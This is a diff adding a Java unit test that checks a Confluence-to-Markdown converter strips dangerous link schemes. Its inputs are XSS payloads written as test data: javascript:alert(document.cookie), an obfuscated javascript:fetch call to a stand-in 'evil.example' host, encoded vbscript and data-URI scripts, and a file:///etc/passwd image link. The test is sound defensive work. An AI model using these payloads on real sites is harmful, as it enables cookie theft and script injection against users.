@@ -182,6 +182,21 @@ class StorageToMarkdownTest {
   }
 
   @Test
+  void onlyWebAndMailLinksSurvive() {
+    assertEquals("click me, [mail](mailto:a@example.com), [web](HTTPS://example.com/a), [page](/wiki/spaces/X), "
+        + "run this, call, tab, me and [image] [image: x.png]", converter.convert("<p>"
+        + "<a href=\"javascript:alert(document.cookie)\">click me</a>, "
+        + "<a href=\"mailto:a@example.com\">mail</a>, <a href=\"HTTPS://example.com/a\">web</a>, "
+        + "<a href=\"/wiki/spaces/X\">page</a>, "
+        + "<ac:link><ri:url ri:value=\" JaVaScRiPt:fetch('https://evil.example')\" />"
+        + "<ac:plain-text-link-body><![CDATA[run this]]></ac:plain-text-link-body></ac:link>, "
+        + "<a href=\"vbscript&#58;msgbox(1)\">call</a>, <a href=\"java&#9;script:alert(1)\">tab</a>, "
+        + "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">me</a> and "
+        + "<ac:image><ri:url ri:value=\"javascript:alert(1)\" /></ac:image><ac:image ac:alt=\"x.png\">"
+        + "<ri:url ri:value=\"file:///etc/passwd\" /></ac:image></p>"));
+  }
+
+  @Test
   void plainTextWithoutMarkupIsAParagraph() {
     assertEquals("just text, \\*escaped\\*", converter.convert("just text, *escaped*"));
   }
